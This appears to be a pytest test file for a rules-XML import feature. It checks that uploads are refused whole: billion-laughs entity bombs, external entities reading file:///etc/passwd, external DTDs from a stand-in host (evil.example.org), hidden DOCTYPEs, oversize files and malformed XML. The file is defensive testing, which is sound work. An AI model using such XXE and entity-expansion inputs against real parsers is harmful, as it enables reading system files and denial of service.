"""Hostile and malformed uploads are refused whole, with a clear reason (invariant 5)."""

import pytest

from rules.models import Rule
from rules.rulesxml import import_rules
from rules.rulesxml.document import parse_rules_document
from rules.rulesxml.errors import RulesImportError

pytestmark = pytest.mark.django_db


def _refused(data: bytes) -> str:
    report = import_rules(data, auto_enable=False)
    assert report.saved is False
    assert Rule.objects.count() == 0
    assert len(report.failures) == 1
    failure = report.failures[0]
    assert failure.rule is None  # a document-level failure
    return str(failure)


def test_billion_laughs_is_refused_and_nothing_saved(fixture_bytes):
    message = _refused(fixture_bytes("billion_laughs.xml"))
    assert "declares entities" in message
    assert "lol9" in message
    assert "billion laughs" in message


def test_external_entity_is_refused_and_file_not_read(fixture_bytes):
    message = _refused(fixture_bytes("external_entity.xml"))
    assert "external entities" in message
    assert "file:///etc/passwd" in message
    assert "root:" not in message


def test_external_dtd_is_refused():
    message = _refused(
        b'<?xml version="1.0"?><!DOCTYPE rules SYSTEM "http://evil.example.org/r.dtd"><rules/>'
    )
    assert "external DTD" in message
    assert "http://evil.example.org/r.dtd" in message


def test_plain_doctype_is_refused():
    message = _refused(b"<!DOCTYPE rules><rules/>")
    assert "DOCTYPE is not allowed" in message


def test_oversize_file_is_refused_before_parsing(settings, fixture_bytes):
    settings.RULES_IMPORT_MAX_BYTES = 100
    data = fixture_bytes("message_rule.xml")
    message = _refused(data)
    assert f"{len(data)} bytes" in message
    assert "limit of 100 bytes" in message


def test_default_limit_is_ten_megabytes(settings):
    del settings.RULES_IMPORT_MAX_BYTES  # unset: the built-in default applies
    with pytest.raises(RulesImportError, match="limit of 10485760 bytes"):
        parse_rules_document(b" " * (10 * 1024 * 1024 + 1))


def test_not_xml_is_refused_with_position(fixture_bytes):
    message = _refused(fixture_bytes("not_xml.xml"))
    assert message.startswith("document: not well-formed XML:")
    assert "line 1, column 1" in message


def test_truncated_xml_is_refused():
    message = _refused(b"<rules><rule><name>x</name>")
    assert "not well-formed XML" in message


def test_empty_file_is_refused():
    assert "empty" in _refused(b"  \n")


def test_wrong_root_is_refused(fixture_bytes):
    message = _refused(fixture_bytes("wrong_root.xml"))
    assert "root element is <list>, expected <rules>" in message
    assert "endpoint export" in message


def test_doctype_hidden_from_the_byte_scan_is_still_refused():
    # A comment that looks like an element start ends the prolog scan early; the
    # parsed document's DTD is checked as well.
    message = _refused(b'<!-- <a --><!DOCTYPE rules [<!ENTITY e "x">]><rules>&e;</rules>')
    assert "declares entities (e)" in message


def test_utf16_billion_laughs_is_refused(fixture_bytes):
    data = fixture_bytes("billion_laughs.xml").decode().replace("UTF-8", "UTF-16")
    message = _refused(data.encode("utf-16"))
    assert "declares entities" in message


def test_doctype_text_inside_cdata_is_not_a_doctype():
    data = (
        b"<rules><rule><name>r</name><metric>m</metric><window>length(1)</window>"
        b"<expression>true</expression>"
        b"<alertOpenMessage><![CDATA[<!DOCTYPE html><p>${rule}</p>]]></alertOpenMessage>"
        b"</rule></rules>"
    )
    report = import_rules(data, auto_enable=False)
    assert report.saved is True
    assert Rule.objects.get().alert_open_message == "<!DOCTYPE html><p>${rule}</p>"
